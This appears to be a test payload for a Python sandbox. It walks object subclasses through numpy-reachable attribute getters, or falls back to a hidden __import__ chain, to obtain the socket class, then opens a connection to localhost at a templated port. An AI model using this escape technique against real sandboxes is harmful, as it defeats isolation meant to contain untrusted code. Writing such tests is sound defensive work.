# attempts: socket.socket found among object.__subclasses__() (loaded by multiprocessing), connected directly
# effect: socket
ag = np.ma.core.operator.attrgetter
root = ag('__class__.__base__')(())
subclasses = ag('__class__.__subclasses__')(root)
todo, found = [root], None
for _ in range(50000):
    if not todo or found is not None:
        break
    c = todo.pop()
    if ag('__name__')(c) == 'socket' and ag('__module__')(c) == 'socket':
        found = c
    todo.extend(subclasses(c))
if found is None:
    found = np.random.bit_generator.re.enum.bltns.getattr(np.random.bit_generator.re.enum.bltns, '__import__')('socket').socket
s = found(2, 1)
s.connect(('127.0.0.1', @@PORT@@))
s.close()
